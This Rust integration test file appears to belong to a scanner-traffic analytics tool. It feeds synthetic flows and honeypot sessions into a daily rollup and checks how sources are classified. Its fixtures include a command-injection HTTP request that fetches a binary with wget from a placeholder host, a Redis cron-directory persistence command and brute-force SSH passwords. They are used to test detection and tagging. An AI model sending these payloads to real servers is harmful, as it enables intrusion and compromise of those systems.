//! Rollup over a lake written by the collector's own sink stage: exact figures per source, the
//! backscatter victim kept out, a late segment re-rolled without duplicates, user rules, Tor
//! flags, replaced organisation lists, and the report built from it.
use std::{
    collections::BTreeMap,
    fs::File,
    path::{Path, PathBuf},
};

use arrow::array::{
    Array, AsArray, BooleanArray, ListArray, RecordBatch, StringArray, UInt8Array, UInt32Array,
    UInt64Array,
};
use arrow::datatypes::UInt16Type;
use chrono::NaiveDate;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use scanscope_analytics::{
    report::{self, Query, ReportOptions},
    rollup::{
        self, RollupOptions,
        config::{FieldRule, RollupConfig, TagRule},
    },
};
use scanscope_ingest::sink::Rows;
use scanscope_lake::{Lake, paths, tables::ip_daily::UserType};
use scanscope_proto::v1::{
    Batch, Counter, Credential, Event, Flow, HttpRequest, Kind, SensorStats, Session,
};

const DAY: &str = "2026-11-20";

/// The day's rollup file of `table` (read with parquet directly, not through the lake).
fn rollup_path(root: &Path, table: &str, day: NaiveDate) -> PathBuf {
    root.join(paths::rollup_file(table, day).as_ref())
}

fn write_segment(root: &Path, segment: u64, rows: Rows) {
    rows.write_segment(&Lake::local(root).unwrap(), segment)
        .unwrap();
}

fn day() -> NaiveDate {
    DAY.parse().unwrap()
}

fn t(secs: i64) -> i64 {
    day()
        .and_hms_opt(0, 0, 0)
        .unwrap()
        .and_utc()
        .timestamp_micros()
        + secs * 1_000_000
}

fn v4(s: &str) -> Vec<u8> {
    s.parse::<std::net::Ipv4Addr>().unwrap().octets().to_vec()
}

fn flow(at: i64, src: &str, dst: &str, kind: Kind, port: u32, packets: u64) -> Flow {
    let proto = match kind {
        Kind::Udp => 17,
        Kind::IcmpEcho | Kind::IcmpOther => 1,
        _ => 6,
    };
    Flow {
        interval_start_us: t(at),
        interval_secs: 10.0,
        src_ip: v4(src).into(),
        dst_ip: v4(dst).into(),
        proto,
        kind: kind as i32,
        dst_port: port,
        icmp_type: (proto == 1).then_some(8),
        icmp_code: (proto == 1).then_some(0),
        packets,
        bytes: packets * 40,
        first_seen_us: t(at),
        last_seen_us: t(at) + 1000,
        ..Flow::default()
    }
}

fn batch(sensor: &str, flows: Vec<Flow>, events: Vec<Event>) -> Batch {
    Batch {
        sensor_id: sensor.into(),
        seq: 1,
        flows,
        events,
        stats: vec![SensorStats {
            interval_start_us: t(0),
            interval_secs: 10.0,
            counters: vec![Counter {
                name: "dropped".into(),
                value: 0,
            }],
            ..Default::default()
        }],
        ..Default::default()
    }
}

fn event(src: &str, port: u32, tools: &[&str], ttl: u32, payload: &[u8]) -> Event {
    Event {
        ts_us: t(5),
        src_ip: v4(src),
        dst_ip: v4("198.18.1.130"),
        dst_port: port,
        proto: 6,
        kind: Kind::TcpSyn as i32,
        ttl,
        weight: 1,
        payload: payload.to_vec(),
        payload_len: payload.len() as u32,
        tools: tools.iter().map(|s| s.to_string()).collect(),
        os_hint: "linux/unix".into(),
        ..Default::default()
    }
}

/// The day: three sensors; a vertical scanner on s1; a censys-range horizontal scanner on s1 and
/// s2; a backscatter victim on s3; 50 spoofed single-SYN sources on s2; one HTTP payload.
fn first_segment(root: &Path) {
    let mut s1 = Vec::new();
    let mut s2 = Vec::new();
    for p in 20..=30 {
        s1.push(flow(10, "203.0.113.11", "198.18.1.130", Kind::TcpSyn, p, 1));
    }
    for h in 128..144 {
        for p in [80, 443] {
            s1.push(flow(
                20,
                "162.142.125.77",
                &format!("198.18.1.{h}"),
                Kind::TcpSyn,
                p,
                1,
            ));
            s2.push(flow(
                20,
                "162.142.125.77",
                &format!("198.18.2.{h}"),
                Kind::TcpSyn,
                p,
                1,
            ));
        }
    }
    for i in 0..50 {
        s2.push(flow(
            30,
            &format!("100.64.{}.{}", i / 200, 1 + i % 200),
            "198.18.2.130",
            Kind::TcpSyn,
            80,
            1,
        ));
    }
    let s3 = vec![
        flow(40, "192.0.2.50", "198.18.3.130", Kind::TcpSynack, 33000, 20),
        flow(50, "192.0.2.50", "198.18.3.131", Kind::TcpRst, 33001, 20),
        // An HTTP request with a payload, and an ICMP echo.
        flow(60, "198.51.100.7", "198.18.3.130", Kind::TcpAck, 80, 1),
        flow(60, "198.51.100.7", "198.18.3.130", Kind::IcmpEcho, 0, 3),
    ];
    let events = vec![
        event("203.0.113.11", 20, &["nmap"], 48, b""),
        event("162.142.125.77", 80, &["masscan"], 254, b""),
        event(
            "198.51.100.7",
            80,
            &[],
            52,
            b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\nUser-Agent: Hello, World\r\n\r\n",
        ),
    ];
    let mut rows = Rows::default();
    rows.push(&batch("s1", s1, events));
    rows.push(&batch("s2", s2, vec![]));
    rows.push(&batch("s3", s3, vec![]));
    write_segment(root, 1, rows);
}

fn read(path: &Path) -> RecordBatch {
    let r = ParquetRecordBatchReaderBuilder::try_new(File::open(path).unwrap())
        .unwrap()
        .build()
        .unwrap();
    let schema = arrow::array::RecordBatchReader::schema(&r);
    let b: Vec<RecordBatch> = r.map(|b| b.unwrap()).collect();
    arrow::compute::concat_batches(&schema, &b).unwrap()
}

#[derive(Debug, PartialEq)]
struct Row {
    packets: u64,
    sensor_count: u32,
    breadth: u8,
    dst_hosts: u64,
    ports: Vec<u16>,
    scan_type: String,
    scanner: bool,
    tools: Vec<String>,
    org: Option<String>,
    backscatter: u64,
}

fn rows(root: &Path) -> BTreeMap<String, Row> {
    let b = read(&rollup_path(root, "ip_daily", day()));
    let s = |n: &str| b.column_by_name(n).unwrap().clone();
    let src = s("src_ip");
    let src = src.as_any().downcast_ref::<StringArray>().unwrap();
    let pk = s("packets");
    let pk = pk.as_any().downcast_ref::<UInt64Array>().unwrap();
    let sc = s("sensor_count");
    let sc = sc.as_any().downcast_ref::<UInt32Array>().unwrap();
    let br = s("scan_breadth");
    let br = br.as_any().downcast_ref::<UInt8Array>().unwrap();
    let dh = s("dst_hosts");
    let dh = dh.as_any().downcast_ref::<UInt64Array>().unwrap();
    let ports = s("ports");
    let ports = ports.as_any().downcast_ref::<ListArray>().unwrap();
    let st = s("scan_type");
    let st = st.as_any().downcast_ref::<StringArray>().unwrap();
    let is = s("is_scanner");
    let is = is.as_any().downcast_ref::<BooleanArray>().unwrap();
    let tools = s("tools");
    let tools = tools.as_any().downcast_ref::<ListArray>().unwrap();
    let org = s("org");
    let org = org.as_any().downcast_ref::<StringArray>().unwrap();
    let bs = s("backscatter_packets");
    let bs = bs.as_any().downcast_ref::<UInt64Array>().unwrap();
    (0..b.num_rows())
        .map(|i| {
            (
                src.value(i).to_string(),
                Row {
                    packets: pk.value(i),
                    sensor_count: sc.value(i),
                    breadth: br.value(i),
                    dst_hosts: dh.value(i),
                    ports: ports
                        .value(i)
                        .as_primitive::<UInt16Type>()
                        .values()
                        .to_vec(),
                    scan_type: st.value(i).to_string(),
                    scanner: is.value(i),
                    tools: tools
                        .value(i)
                        .as_string::<i32>()
                        .iter()
                        .flatten()
                        .map(String::from)
                        .collect(),
                    org: org.is_valid(i).then(|| org.value(i).to_string()),
                    backscatter: bs.value(i),
                },
            )
        })
        .collect()
}

fn opts(root: &Path, config: RollupConfig) -> RollupOptions {
    RollupOptions {
        data: root.to_path_buf(),
        date: day(),
        config,
        progress: false,
    }
}

fn files(dir: PathBuf) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn rollup_classifies_attributes_and_reruns_late_data() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    first_segment(root);
    let tor = root.join("exit-addresses");
    std::fs::write(
        &tor,
        "ExitNode AB\nExitAddress 203.0.113.11 2026-11-20 10:00:00\n",
    )
    .unwrap();
    let mut cfg = RollupConfig::default();
    cfg.enrich.tor_exit_list = Some(tor);
    cfg.tag.push(TagRule {
        name: "web-probe".into(),
        when: "80 in tcp_ports && http_url.size() > 0".into(),
    });
    cfg.field.push(FieldRule {
        name: "low_ports".into(),
        ty: UserType::Int,
        expr: "size(ports.filter(p, p < 1024))".into(),
    });
    assert_eq!(rollup::due_dates(root, 0).unwrap(), vec![day()]);
    let s = rollup::run(&opts(root, cfg.clone())).unwrap();
    assert_eq!(s.active_sensors, 3);
    assert_eq!(s.sources, 54);
    assert_eq!(s.scanners, 2);
    assert_eq!(s.dos_victims, 1);
    assert!(rollup::due_dates(root, 0).unwrap().is_empty());

    let r = rows(root);
    assert_eq!(
        r["203.0.113.11"],
        Row {
            packets: 11,
            sensor_count: 1,
            breadth: 3,
            dst_hosts: 1,
            ports: (20..=30).collect(),
            scan_type: "vertical".into(),
            scanner: true,
            tools: vec!["nmap".into()],
            org: None,
            backscatter: 0,
        }
    );
    assert_eq!(
        r["162.142.125.77"],
        Row {
            packets: 64,
            sensor_count: 2,
            breadth: 7,
            dst_hosts: 32,
            ports: vec![80, 443],
            scan_type: "horizontal".into(),
            scanner: true,
            tools: vec!["masscan".into()],
            org: Some("censys".into()),
            backscatter: 0,
        }
    );
    let victim = &r["192.0.2.50"];
    assert_eq!(
        (victim.scanner, victim.backscatter, victim.packets),
        (false, 40, 40)
    );
    assert_eq!(victim.scan_type, "none");
    assert_eq!(r.values().filter(|x| x.scanner).count(), 2);
    let spoofed = r.keys().filter(|k| k.starts_with("100.64.")).count();
    assert_eq!(spoofed, 50);
    assert!(
        r.iter()
            .filter(|(k, _)| k.starts_with("100.64."))
            .all(|(_, x)| !x.scanner && x.scan_type == "none")
    );

    // Payload fields, Tor, user rules: through the report of one source.
    let web = report::build(
        root,
        day(),
        &Query::Ip("198.51.100.7".into()),
        &ReportOptions::default(),
    )
    .unwrap();
    assert_eq!(
        web["http_url"],
        serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"])
    );
    assert_eq!(web["http_user_agent"], serde_json::json!(["Hello, World"]));
    assert_eq!(web["mysql_login_attempts"], serde_json::json!(0));
    assert_eq!(web["icmp_ping"], serde_json::json!(3));
    assert_eq!(web["tor_exit"], serde_json::json!(false));
    assert_eq!(web["low_ports"], serde_json::json!(1));
    let tags: Vec<&str> = web["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert!(
        tags.contains(&"web-probe") && tags.contains(&"payload:wget"),
        "{tags:?}"
    );
    let nmap = report::build(
        root,
        day(),
        &Query::Ip("203.0.113.11".into()),
        &ReportOptions::default(),
    )
    .unwrap();
    assert_eq!(nmap["tor_exit"], serde_json::json!(true));
    assert_eq!(nmap["mysql_login_attempts"], serde_json::Value::Null);
    assert_eq!(nmap["os_hint"], serde_json::json!("linux/unix"));
    assert_eq!(nmap["low_ports"], serde_json::json!(11));

    // Day report: exact counts, ports by packets and by sources.
    let d = report::build(root, day(), &Query::Day, &ReportOptions::default()).unwrap();
    assert_eq!(d["sources"], 54);
    assert_eq!(d["scanners"], 2);
    assert_eq!(d["wide_scanners"], 1); // breadth 7 ≥ 5
    assert_eq!(d["top_ports_by_packets"][0]["port"], 80);
    assert_eq!(d["top_ports_by_packets"][0]["packets"], 32 + 50 + 1);
    assert_eq!(d["top_ports_by_sources"][0]["sources"], 52);
    assert_eq!(d["organisations"][0]["org"], "censys");
    assert_eq!(
        d["dos_victims"].as_array().unwrap().len(),
        0,
        "40 packets in 20 s is no attack by default"
    );
    let sum: u64 = d["series_30m"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["packets"].as_u64().unwrap())
        .sum();
    assert_eq!(sum, 11 + 64 + 50 + 1 + 3);
    let port = report::build(root, day(), &Query::Port(443), &ReportOptions::default()).unwrap();
    assert_eq!(port["tcp"]["sources"], 1);
    assert_eq!(port["tcp"]["also_tried"][0]["port"], 80);
    assert_eq!(port["tcp"]["top_orgs"], serde_json::json!(["censys"]));

    // Late data: the vertical scanner also reaches s2, on five more ports.
    let late: Vec<Flow> = (31..=35)
        .map(|p| flow(3600, "203.0.113.11", "198.18.2.130", Kind::TcpSyn, p, 2))
        .collect();
    let mut rows2 = Rows::default();
    rows2.push(&batch("s2", late, vec![]));
    write_segment(root, 2, rows2);
    assert_eq!(rollup::due_dates(root, 0).unwrap(), vec![day()]);
    let s = rollup::run(&opts(root, cfg.clone())).unwrap();
    assert_eq!(s.sources, 54);
    let r = rows(root);
    let a = &r["203.0.113.11"];
    assert_eq!(
        (a.packets, a.sensor_count, a.breadth, a.dst_hosts),
        (21, 2, 7, 2)
    );
    assert_eq!(a.ports, (20..=35).collect::<Vec<u16>>());
    assert_eq!(a.scan_type, "vertical");
    // Running again changes nothing and every table keeps one file for the day.
    rollup::run(&opts(root, cfg)).unwrap();
    assert_eq!(rows(root), r);
    for t in ["ip_daily", "port_daily", "dos_daily", "series_daily"] {
        assert_eq!(
            files(rollup_path(root, t, day()).parent().unwrap().to_path_buf()),
            vec!["rollup.parquet"]
        );
    }
    if std::env::var_os("SCANSCOPE_KEEP_TEST_LAKE").is_some() {
        eprintln!("lake kept in {}", dir.keep().display());
    }
}

#[test]
fn dos_thresholds_and_replaced_org_lists() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    // 6 minutes of 10 SYN-ACKs every 10 s (60/min) from one victim.
    let flows: Vec<Flow> = (0..36)
        .map(|i| {
            flow(
                600 + i * 10,
                "192.0.2.99",
                "198.18.1.130",
                Kind::TcpSynack,
                443,
                10,
            )
        })
        .collect();
    let mut rows = Rows::default();
    rows.push(&batch("s1", flows, vec![]));
    write_segment(root, 1, rows);
    let orgs = root.join("orgs");
    std::fs::create_dir(&orgs).unwrap();
    std::fs::write(orgs.join("acme_v4.txt"), "192.0.2.0/24\n").unwrap();
    let mut cfg = RollupConfig::default();
    cfg.enrich.orgs_dir = Some(orgs);
    let s = rollup::run(&opts(root, cfg)).unwrap();
    assert_eq!((s.sources, s.scanners, s.dos_victims), (1, 0, 1));
    let dos = read(&rollup_path(root, "dos_daily", day()));
    let col = |n: &str| dos.column_by_name(n).unwrap().clone();
    assert_eq!(
        col("packets")
            .as_primitive::<arrow::datatypes::UInt64Type>()
            .value(0),
        360
    );
    assert_eq!(
        col("peak_ppm")
            .as_primitive::<arrow::datatypes::UInt64Type>()
            .value(0),
        60
    );
    assert!(col("is_attack").as_boolean().value(0));
    assert_eq!(
        col("attacks")
            .as_primitive::<arrow::datatypes::UInt32Type>()
            .value(0),
        1
    );
    let r = rows_org(root);
    assert_eq!(r, Some("acme".to_string()));
    // Missing enrichment files: warnings, not failures.
    let mut cfg = RollupConfig::default();
    cfg.enrich.mmdb = vec![root.join("missing.mmdb")];
    cfg.enrich.tor_exit_list = Some(root.join("missing-tor"));
    let s = rollup::run(&opts(root, cfg)).unwrap();
    assert!(
        s.warnings.iter().any(|w| w.contains("MMDB")),
        "{:?}",
        s.warnings
    );
    assert!(
        s.warnings.iter().any(|w| w.contains("Tor")),
        "{:?}",
        s.warnings
    );
    // No data: a clear error.
    let mut o = opts(root, RollupConfig::default());
    o.date = NaiveDate::from_ymd_opt(2026, 1, 1).unwrap();
    assert!(
        rollup::run(&o)
            .unwrap_err()
            .to_string()
            .contains("no data for 2026-01-01")
    );
}

fn rows_org(root: &Path) -> Option<String> {
    let b = read(&rollup_path(root, "ip_daily", day()));
    let o = b.column_by_name("org").unwrap().as_string::<i32>().clone();
    o.is_valid(0).then(|| o.value(0).to_string())
}

/// Review M10 and L8: a source's hostile values cannot make the rollup quadratic or wrap its
/// sums. 20 000 events with distinct OS hints: a source keeps at most `MAX_OS_HINTS` (each
/// event costs at most that many comparisons), so a hint first seen after them is not counted
/// even when it is the most frequent. Two flows of `u64::MAX` packets: the sum saturates.
#[test]
fn hostile_hints_and_huge_counts_stay_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let src = "203.0.113.66";
    let hinted = |h: &str| Event {
        os_hint: h.into(),
        ..event(src, 80, &[], 64, b"")
    };
    let mut events: Vec<Event> = (0..3).map(|_| hinted("windows")).collect();
    events.extend((0..20_000).map(|i| hinted(&format!("noise-{i:05}"))));
    events.extend((0..100).map(|_| hinted("late")));
    let huge = |f: Flow| Flow {
        packets: u64::MAX,
        bytes: u64::MAX,
        ..f
    };
    let flows = vec![
        huge(flow(10, src, "198.18.1.130", Kind::TcpSyn, 80, 1)),
        huge(flow(20, src, "198.18.1.131", Kind::TcpSyn, 81, 1)),
    ];
    let mut rows = Rows::default();
    rows.push(&batch("s1", flows, events));
    write_segment(root, 1, rows);
    rollup::run(&opts(root, RollupConfig::default())).unwrap();
    let b = read(&rollup_path(root, "ip_daily", day()));
    assert_eq!(b.num_rows(), 1);
    let hint = b.column_by_name("os_hint").unwrap().as_string::<i32>();
    assert_eq!(hint.value(0), "windows");
    let packets = b
        .column_by_name("packets")
        .unwrap()
        .as_primitive::<arrow::datatypes::UInt64Type>();
    assert_eq!(packets.value(0), u64::MAX);
}

/// A table's rows as JSON objects (arrow's JSON writer), keyed by `key`.
fn json_rows(path: &Path, key: &str) -> BTreeMap<String, serde_json::Value> {
    let b = read(path);
    // Timestamps left out: the JSON writer needs chrono-tz for "UTC".
    let keep: Vec<usize> = (0..b.num_columns())
        .filter(|&i| {
            !matches!(
                b.schema().field(i).data_type(),
                arrow::datatypes::DataType::Timestamp(..)
            )
        })
        .collect();
    let b = b.project(&keep).unwrap();
    let mut w = arrow::json::ArrayWriter::new(Vec::new());
    w.write(&b).unwrap();
    w.finish().unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&w.into_inner()).unwrap();
    rows.into_iter()
        .map(|r| (r[key].to_string().trim_matches('"').to_string(), r))
        .collect()
}

fn session(at: i64, src: &str, port: u32, protocol: &str) -> Session {
    Session {
        ts_us: t(at),
        src_ip: v4(src),
        dst_ip: v4("198.18.1.130"),
        src_port: 40_000,
        dst_port: port,
        protocol: protocol.into(),
        end: "answered".into(),
        ..Default::default()
    }
}

fn cred(method: &str, user: &str, secret: &str) -> Credential {
    Credential {
        method: method.into(),
        user: user.into(),
        secret: secret.into(),
    }
}

#[test]
fn sessions_fill_the_rollup_and_two_phase_scanners_are_tagged() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    // A: masscan SYNs at 100 s, then an HTTP session (120 s later) and an SSH session with two
    // passwords and one key; B: a zmap SYN at 100 s and a MySQL login 2 000 s later (too late
    // for the two-phase rule); C: only sessions (Redis), no fingerprint.
    let (a, b, c) = ("203.0.113.50", "203.0.113.51", "203.0.113.52");
    let flows = vec![
        flow(100, a, "198.18.1.130", Kind::TcpSyn, 8080, 1),
        flow(100, a, "198.18.1.130", Kind::TcpSyn, 2222, 1),
        flow(100, b, "198.18.1.130", Kind::TcpSyn, 3306, 2),
        flow(100, c, "198.18.1.130", Kind::TcpSyn, 6379, 1),
    ];
    let mut ev_a = event(a, 8080, &["masscan"], 255, b"");
    ev_a.ts_us = t(100);
    let mut ev_b = event(b, 3306, &["zmap"], 255, b"");
    ev_b.ts_us = t(100);
    let mut b1 = batch("s1", flows, vec![ev_a, ev_b]);
    let mut http = session(220, a, 8080, "http");
    http.payload =
        b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\nUser-Agent: Hello\r\n\r\n".to_vec();
    http.http = Some(HttpRequest {
        method: "GET".into(),
        url: "/shell?cd+/tmp;wget+http://x/m".into(),
        version: 11,
        user_agent: Some("Hello".into()),
        ..Default::default()
    });
    let mut ssh = session(300, a, 2222, "ssh");
    ssh.ssh_client_banner = "SSH-2.0-libssh_0.10.6".into();
    ssh.hassh = "be31134219a24899a8a0c29c7797ba94".into();
    ssh.payload = b"SSH-2.0-libssh_0.10.6\r\n".to_vec();
    ssh.credentials = vec![
        cred("password", "root", "admin"),
        cred("password", "root", "123456"),
        cred("publickey", "git", "SHA256:abc"),
    ];
    let mut my = session(2100, b, 3306, "mysql");
    my.credentials = vec![cred("mysql_native", "sa", "00ff")];
    let mut redis = session(400, c, 6379, "redis");
    redis.commands = vec!["CONFIG SET dir /var/spool/cron".into(), "SAVE".into()];
    redis.payload = b"*4\r\n$6\r\nCONFIG\r\n".to_vec();
    b1.sessions = vec![http, ssh, my, redis];
    let mut r = Rows::default();
    r.push(&b1);
    write_segment(root, 1, r);
    rollup::run(&opts(root, RollupConfig::default())).unwrap();

    let ip = json_rows(&rollup_path(root, "ip_daily", day()), "src_ip");
    let ra = &ip[a];
    assert_eq!(ra["sessions"], 2);
    assert_eq!(ra["session_protocols"], serde_json::json!(["http", "ssh"]));
    assert_eq!(ra["login_attempts"], 3);
    assert_eq!(ra["login_protocols"], serde_json::json!(["ssh"]));
    assert_eq!(ra["login_counts"], serde_json::json!([3]));
    assert_eq!(ra["users"], serde_json::json!(["root", "git"]));
    // Typed passwords only (not the key fingerprint), most tried first, ties by value.
    assert_eq!(ra["passwords"], serde_json::json!(["123456", "admin"]));
    assert_eq!(
        ra["hassh"],
        serde_json::json!(["be31134219a24899a8a0c29c7797ba94"])
    );
    assert_eq!(
        ra["ssh_client_banners"],
        serde_json::json!(["SSH-2.0-libssh_0.10.6"])
    );
    assert_eq!(
        ra["http_url"],
        serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"])
    );
    assert_eq!(ra["http_user_agent"], serde_json::json!(["Hello"]));
    assert_eq!(ra["two_phase_tool"], "masscan");
    let tags: Vec<&str> = ra["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    for t in [
        "responded",
        "login_attempts",
        "two_phase",
        "payload:wget",
        "payload:shell",
    ] {
        assert!(tags.contains(&t), "{t} in {tags:?}");
    }
    let rb = &ip[b];
    assert!(
        rb.get("two_phase_tool").is_none_or(|v| v.is_null()),
        "{rb:#}"
    );
    assert!(
        !rb["tags"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "two_phase")
    );
    assert_eq!(rb["mysql_login_attempts"], 1);
    assert_eq!(rb["mysql_user"], serde_json::json!(["sa"]));
    assert_eq!(rb["login_protocols"], serde_json::json!(["mysql"]));
    // mysql_native secrets are responses, not passwords.
    assert_eq!(rb["passwords"], serde_json::json!([]));
    let rc = &ip[c];
    assert_eq!(
        rc["session_commands"],
        serde_json::json!(["CONFIG SET dir /var/spool/cron", "SAVE"])
    );
    assert_eq!(rc["login_attempts"], 0);
    assert!(rc.get("two_phase_tool").is_none_or(|v| v.is_null()));

    let ports = json_rows(&rollup_path(root, "port_daily", day()), "port");
    assert_eq!(ports["8080"]["sessions"], 1);
    assert_eq!(ports["8080"]["payload_sources"], 1);
    assert_eq!(ports["3306"]["sessions"], 1);
    assert_eq!(ports["3306"]["payload_sources"], 0);
    assert_eq!(ports["2222"]["sessions"], 1);
    assert_eq!(ports["6379"]["payload_sources"], 1);

    // The day's report: what the scanners wanted.
    let d = report::build(root, day(), &Query::Day, &ReportOptions::default()).unwrap();
    let r = &d["responder"];
    assert_eq!(r["sessions"], 4);
    assert_eq!(r["sources"], 3);
    assert_eq!(
        r["logins_by_protocol"],
        serde_json::json!([{"protocol": "mysql", "attempts": 1}, {"protocol": "ssh", "attempts": 3}])
    );
    assert_eq!(
        r["top_passwords"][0],
        serde_json::json!({"value": "123456", "sources": 1})
    );
    assert_eq!(
        r["two_phase"],
        serde_json::json!([{"src_ip": a, "tool": "masscan"}])
    );
    let text = report::render_text(&Query::Day, &d);
    assert!(
        text.contains("two-phase: 203.0.113.50 (first phase masscan)"),
        "{text}"
    );
    let one = report::build(root, day(), &Query::Ip(a.into()), &ReportOptions::default()).unwrap();
    assert_eq!(one["two_phase_tool"], "masscan");
    assert_eq!(one["passwords"], serde_json::json!(["123456", "admin"]));
}

#[test]
fn the_open_day_is_rolled_up_provisionally_until_it_closes() {
    use scanscope_analytics::schedule::AutoRollup;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    // Today's traffic (the open day) and the closed test day.
    let now = chrono::Utc::now().timestamp_micros();
    let mut f = flow(0, "203.0.113.11", "198.18.1.130", Kind::TcpSyn, 22, 3);
    (f.interval_start_us, f.first_seen_us, f.last_seen_us) = (now, now, now);
    let mut rows = Rows::default();
    rows.push(&batch("s1", vec![f], vec![]));
    write_segment(root, 1, rows);
    first_segment(root);
    let today = chrono::Utc::now().date_naive();
    let auto = AutoRollup {
        data: root.to_path_buf(),
        config: RollupConfig::default(),
        grace_secs: 0,
        check: std::time::Duration::from_secs(1),
        provisional_every: Some(std::time::Duration::from_secs(3600)),
        last_provisional: Default::default(),
    };
    auto.run_due();
    // The closed day got its final rollup, the open one a provisional one.
    assert!(!rollup::is_provisional(root, day()));
    assert!(rollup::is_provisional(root, today));
    assert_eq!(
        rollup::last_inputs(root, today).map(|i| i.provisional),
        Some(true)
    );
    assert!(rollup_path(root, "ip_daily", today).exists());
    assert!(
        rollup::due_dates(root, 0).unwrap().is_empty(),
        "an open day is never due"
    );
    // Within `provisional_every` the open day is not rolled up again.
    let marker = root.join(format!("_state/rollup/{today}.json"));
    std::fs::remove_file(&marker).unwrap();
    auto.run_due();
    assert!(!marker.exists());
    // A closed day whose last rollup was provisional is due again, whatever its inputs.
    let mut inputs = rollup::last_inputs(root, day()).unwrap();
    inputs.provisional = true;
    std::fs::write(
        root.join(format!("_state/rollup/{DAY}.json")),
        serde_json::to_vec(&inputs).unwrap(),
    )
    .unwrap();
    assert!(rollup::is_provisional(root, day()));
    assert_eq!(rollup::due_dates(root, 0).unwrap(), vec![day()]);
    auto.run_due();
    assert!(!rollup::is_provisional(root, day()));
    assert!(rollup::due_dates(root, 0).unwrap().is_empty());
}

#[test]
fn netflow_rows_are_scaled_by_their_sampling_rate_and_established_flows_are_not_probes() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    // An exporter sampling 1 in 100: a SYN probe, a SYN that reached an open port (SYN+RST)
    // and an established connection, from one source.
    let sampled = |kind, port, packets| Flow {
        sampling_rate: Some(100),
        tcp_flags: Some(match kind {
            Kind::TcpSyn => 0x02,
            Kind::TcpSynRst => 0x06,
            _ => 0x1b,
        }),
        ..flow(60, "203.0.113.5", "198.18.1.2", kind, port, packets)
    };
    let mut b = batch(
        "edge-router",
        vec![
            sampled(Kind::TcpSyn, 22, 2),
            sampled(Kind::TcpSynRst, 25, 2),
            sampled(Kind::TcpEstablished, 80, 10),
        ],
        vec![],
    );
    b.source = scanscope_proto::v1::Source::Netflow as i32;
    let mut segment = Rows::default();
    segment.push(&b);
    write_segment(root, 1, segment);
    rollup::run(&opts(root, RollupConfig::default())).unwrap();
    let r = &rows(root)["203.0.113.5"];
    assert_eq!(r.packets, 1400, "every packet stands for 100");
    assert_eq!(
        r.ports,
        vec![22, 25],
        "the established connection is not a probe"
    );
}
